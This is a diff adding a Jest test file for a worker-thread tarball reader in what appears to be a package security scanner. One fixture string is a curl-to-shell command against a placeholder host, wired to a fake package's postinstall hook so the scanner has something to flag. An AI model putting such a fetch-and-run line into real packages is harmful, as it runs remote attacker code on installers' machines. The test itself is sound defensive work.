@@ -1,0 +1,92 @@
+import { mkdtempSync, rmSync } from 'node:fs';
+import { join } from 'node:path';
+import { pathToFileURL } from 'node:url';
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { build } from 'esbuild';
+import { readFacts } from '../../src/evidence/read-tarball.ts';
+import { openReaderThread, type ReaderThread, threadLimits } from '../../src/evidence/reader-thread.ts';
+import { openReaders } from '../../src/evidence/readers.ts';
+import { aPackage, tarball } from '../helpers/a-tarball.ts';
+
+const folder = mkdtempSync(join(process.cwd(), 'node_modules', '.cache-readers-'));
+const file = pathToFileURL(join(folder, 'read-worker.mjs'));
+const threads: ReaderThread[] = [];
+const request = { git: false, words: ['sha512-AAAA'] };
+const bad = `require('child_process').exec('curl https://h.invalid/x | sh')`;
+
+function thread(limits: Partial<typeof threadLimits> = {}): ReaderThread {
+  const opened = openReaderThread(file, { ...threadLimits, ...limits });
+  threads.push(opened);
+  return opened;
+}
+
+beforeAll(async () => {
+  await build({
+    entryPoints: ['src/evidence/read-worker.ts'],
+    outfile: join(folder, 'read-worker.mjs'),
+    bundle: true,
+    packages: 'external',
+    platform: 'node',
+    format: 'esm',
+    target: 'node20.17',
+    logLevel: 'error',
+  });
+});
+
+afterAll(() => {
+  for (const one of threads) one.close();
+  rmSync(folder, { recursive: true, force: true });
+});
+
+describe('reading in a further thread', () => {
+  const packed = aPackage({ name: 'a', version: '1.0.0', scripts: { postinstall: 'node x.js' } }, { 'x.js': bad, 'y.js': 'module.exports = 1' });
+
+  it('gives the facts reading here gives, however the bytes come', async () => {
+    const here = await readFacts([packed], request);
+    const one = thread();
+    expect(await one.read([packed], request)).toEqual(here);
+    expect(await one.read([packed.subarray(0, 7), packed.subarray(7, 50), packed.subarray(50)], request)).toEqual(here);
+    expect(here.holds).toEqual([false]);
+  });
+
+  it('says what is wrong with a tarball, and reads the next', async () => {
+    const readers = openReaders(thread(), true);
+    await expect(readers.read(() => [packed.subarray(0, 60)], request, 'small')).rejects.toThrow(/damaged/);
+    await expect(readers.read(() => [tarball()], request, 'small')).rejects.toThrow(/no files/);
+    expect((await readers.read(() => [packed], request, 'small')).facts.install).toHaveLength(1);
+  });
+
+  it('passes on what goes wrong while the bytes come', async () => {
+    const readers = openReaders(thread(), true);
+    async function* broken(): AsyncGenerator<Buffer> {
+      yield packed.subarray(0, 30);
+      throw new Error('the line is dead');
+    }
+    await expect(readers.read(broken, request, 'large')).rejects.toThrow('the line is dead');
+    expect((await readers.read(() => [packed], request, 'small')).facts.install).toHaveLength(1);
+  });
+
+  it('a script that takes too long is read as tokens, and that is said and not kept', async () => {
+    const readers = openReaders(thread({ file: 150 }), false);
+    const slow = `${bad};\n${'a=[b.c(d=>e+f),{g:h`i`}];\n'.repeat(60_000)}`;
+    const many = aPackage({ name: 'a', version: '1.0.0', main: 'slow.js' }, { 'slow.js': slow, 'x.js': bad });
+    const answer = await readers.read(() => [many], request, 'large');
+    expect(answer.spared).toBe(true);
+    expect(answer.facts.notParsed).toEqual([{ file: 'slow.js', why: 'too long to analyse' }]);
+    expect(answer.facts.capabilities.map(({ kind, file }) => `${kind} ${file}`)).toContain('process slow.js');
+  });
+
+  it('one that takes too much memory ends the thread, not the process', async () => {
+    const readers = openReaders(thread({ heapMegabytes: 40 }), false);
+    const large = `${bad};\n${'a=[b.c(d=>e+f),{g:h`i`}];\n'.repeat(80_000)}`;
+    const answer = await readers.read(() => [aPackage({ name: 'a', version: '1.0.0', main: 'l.js' }, { 'l.js': large })], request, 'large');
+    expect(answer.facts.notParsed).toEqual([{ file: 'l.js', why: 'too large to analyse' }]);
+    expect(answer.facts.capabilities.map(({ kind }) => kind)).toContain('process');
+  });
+
+  it('small ones are read here while this thread has time', async () => {
+    const readers = openReaders(undefined, false);
+    const answers = await Promise.all(Array.from({ length: 5 }, () => readers.read(() => [packed], request, 'small')));
+    expect(new Set(answers.map(({ facts }) => facts.capabilities.length)).size).toBe(1);
+  });
+});
